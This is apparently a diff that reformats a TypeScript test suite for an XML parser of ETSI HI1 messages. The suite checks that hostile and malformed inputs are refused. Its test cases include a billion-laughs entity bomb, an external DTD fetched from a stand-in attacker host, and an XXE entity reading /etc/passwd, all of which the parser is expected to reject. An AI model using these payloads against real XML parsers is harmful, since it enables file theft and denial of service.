@@ -15,20 +15,36 @@ const refusal = (input: string | Uint8Array) => {
 describe('XML that is refused, with where', () => {
   const laughs = `<!DOCTYPE HI1Message [<!ENTITY a "ha">${[...'bcdefghij'].map((e, i) => `<!ENTITY ${e} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`
   test.each([
-    ['a document type', `<!DOCTYPE HI1Message SYSTEM "http://attacker.example/x.dtd"><HI1Message xmlns="${core}"/>`, 'xml.doctype'],
+    [
+      'a document type',
+      `<!DOCTYPE HI1Message SYSTEM "http://attacker.example/x.dtd"><HI1Message xmlns="${core}"/>`,
+      'xml.doctype',
+    ],
     ['a billion laughs', `${laughs}<HI1Message xmlns="${core}">&j;</HI1Message>`, 'xml.doctype'],
-    ['a file of the server', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><HI1Message xmlns="${core}">&f;</HI1Message>`, 'xml.doctype'],
+    [
+      'a file of the server',
+      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><HI1Message xmlns="${core}">&f;</HI1Message>`,
+      'xml.doctype',
+    ],
     ['an entity that XML does not own', `<HI1Message xmlns="${core}">&nbsp;</HI1Message>`, 'xml.entity'],
     ['an entity never closed', `<HI1Message xmlns="${core}">&amp</HI1Message>`, 'xml.notWellFormed'],
     ['an element never closed', `<HI1Message xmlns="${core}"><Header></HI1Message>`, 'xml.notWellFormed'],
-    ['a prefix that nobody declared', `<HI1Message xmlns="${core}"><task:Reference/></HI1Message>`, 'xml.notWellFormed'],
+    [
+      'a prefix that nobody declared',
+      `<HI1Message xmlns="${core}"><task:Reference/></HI1Message>`,
+      'xml.notWellFormed',
+    ],
     ['an attribute twice', `<HI1Message xmlns="${core}" a="1" a="2"/>`, 'xml.notWellFormed'],
     ['two roots', `<HI1Message xmlns="${core}"/><HI1Message xmlns="${core}"/>`, 'xml.notWellFormed'],
     ['a control character', `<HI1Message xmlns="${core}">\u0001</HI1Message>`, 'xml.character'],
     ['a control character by its number', `<HI1Message xmlns="${core}">&#1;</HI1Message>`, 'xml.character'],
     ['nothing', ' ', 'xml.notWellFormed'],
     ['XML 1.1', `<?xml version="1.1"?><HI1Message xmlns="${core}"/>`, 'xml.version'],
-    ['Latin 1', `<?xml version="1.0" encoding="ISO-8859-1"?><HI1Message xmlns="${core}"/>`, 'encoding.unsupported'],
+    [
+      'Latin 1',
+      `<?xml version="1.0" encoding="ISO-8859-1"?><HI1Message xmlns="${core}"/>`,
+      'encoding.unsupported',
+    ],
     ['another standard', '<Invoice xmlns="urn:x"/>', 'xml.root'],
     ['the right name without its namespace', '<HI1Message/>', 'xml.root'],
   ])('%s', (_, text, code) => {
@@ -38,7 +54,10 @@ describe('XML that is refused, with where', () => {
   })
 
   test('the line is the one of the fault', () => {
-    expect(refusal(example.replace('</Header>', '</Heeder>'))).toMatchObject({ code: 'xml.notWellFormed', params: { line: 19, reason: 'closing' } })
+    expect(refusal(example.replace('</Header>', '</Heeder>'))).toMatchObject({
+      code: 'xml.notWellFormed',
+      params: { line: 19, reason: 'closing' },
+    })
   })
 
   test('UTF-16 is named and not guessed at', () => {
@@ -53,8 +72,12 @@ describe('XML that is refused, with where', () => {
     expect(refusal(`<HI1Message xmlns="${core}">${'<a>'.repeat(10_000)}`)?.code).toBe('size.tooDeep')
     const attributes = Array.from({ length: limits.attributes + 1 }, (_, i) => `a${i}="1"`).join(' ')
     expect(refusal(`<HI1Message xmlns="${core}" ${attributes}/>`)?.code).toBe('size.tooManyAttributes')
-    expect(refusal(`<HI1Message xmlns="${core}">${'<a/>'.repeat(limits.nodes)}</HI1Message>`)?.code).toBe('size.tooManyParts')
-    expect(refusal(`<HI1Message xmlns="${core}"><${'a'.repeat(limits.nameLength + 1)}/></HI1Message>`)?.code).toBe('size.nameTooLong')
+    expect(refusal(`<HI1Message xmlns="${core}">${'<a/>'.repeat(limits.nodes)}</HI1Message>`)?.code).toBe(
+      'size.tooManyParts',
+    )
+    expect(
+      refusal(`<HI1Message xmlns="${core}"><${'a'.repeat(limits.nameLength + 1)}/></HI1Message>`)?.code,
+    ).toBe('size.nameTooLong')
     expect(refusal(' '.repeat(limits.bytes + 1))?.code).toBe('size.tooLarge')
   })
 })
@@ -63,7 +86,10 @@ describe('XML that stands for the same message', () => {
   const tree = parseXml(example)
 
   test('other prefixes, CDATA, comments and references change nothing', () => {
-    const other = example.replaceAll('task:', 't:').replace('xmlns:task', 'xmlns:t').replace('>W000001<', '><![CDATA[W0000]]><!-- order -->&#48;1<')
+    const other = example
+      .replaceAll('task:', 't:')
+      .replace('xmlns:task', 'xmlns:t')
+      .replace('>W000001<', '><![CDATA[W0000]]><!-- order -->&#48;1<')
     expect(parseXml(other)).toEqual(tree)
   })
 
@@ -80,7 +106,9 @@ describe('XML that stands for the same message', () => {
 
   test('a declaration deep inside is as good as one at the top', () => {
     const task = 'xmlns:task="http://uri.etsi.org/03120/common/2020/09/Task"'
-    const other = example.replace(` ${task}`, '').replace('<HI1Object xsi:type="task:', `<HI1Object ${task} xsi:type="task:`)
+    const other = example
+      .replace(` ${task}`, '')
+      .replace('<HI1Object xsi:type="task:', `<HI1Object ${task} xsi:type="task:`)
     expect(validate(other)).toEqual({ valid: true, errors: [] })
   })
 
@@ -107,7 +135,12 @@ describe('XML that is written', () => {
     ['a name that would open an element', { 'a><b': 'x' }, 'xml.name', '/a><b'],
     ['null', { Header: null }, 'xml.noValue', '/Header'],
     ['a list in a list', { Header: [['x']] }, 'xml.listInList', '/Header/0'],
-    ['a signature of JSON', { Signature: { protected: 'x', signature: 'y' } }, 'xml.jsonSignature', '/Signature'],
+    [
+      'a signature of JSON',
+      { Signature: { protected: 'x', signature: 'y' } },
+      'xml.jsonSignature',
+      '/Signature',
+    ],
   ])('%s has no form in XML', (_, tree, code, path) => {
     expect(writeXml(tree)).toMatchObject({ ok: false, errors: [{ code, path }] })
   })
@@ -117,8 +150,17 @@ test('elements that the standard does not know are kept, and written under their
   const other = example.replace('</Header>', '<x:Trace xmlns:x="urn:hub" hop="1">a<x:b/>c</x:Trace></Header>')
   const read = parseXml(other)
   if (!read.ok) throw new Error('not read')
-  expect((read.message.Header as Record<string, unknown>)['{urn:hub}Trace']).toEqual({ '@hop': '1', '{urn:hub}b': '', '#text': 'ac' })
-  expect(validate(other).errors).toEqual([{ code: 'schema.unknownProperty', path: '/Header/{urn:hub}Trace', params: {} }])
+  expect((read.message.Header as Record<string, unknown>)['{urn:hub}Trace']).toEqual({
+    '@hop': '1',
+    '{urn:hub}b': '',
+    '#text': 'ac',
+  })
+  expect(validate(other).errors).toEqual([
+    { code: 'schema.unknownProperty', path: '/Header/{urn:hub}Trace', params: {} },
+  ])
   const written = writeXml(read.message)
-  expect(written.ok && parseXml(written.xml)).toMatchObject({ ok: true, message: { Header: read.message.Header as never } })
+  expect(written.ok && parseXml(written.xml)).toMatchObject({
+    ok: true,
+    message: { Header: read.message.Header as never },
+  })
 })
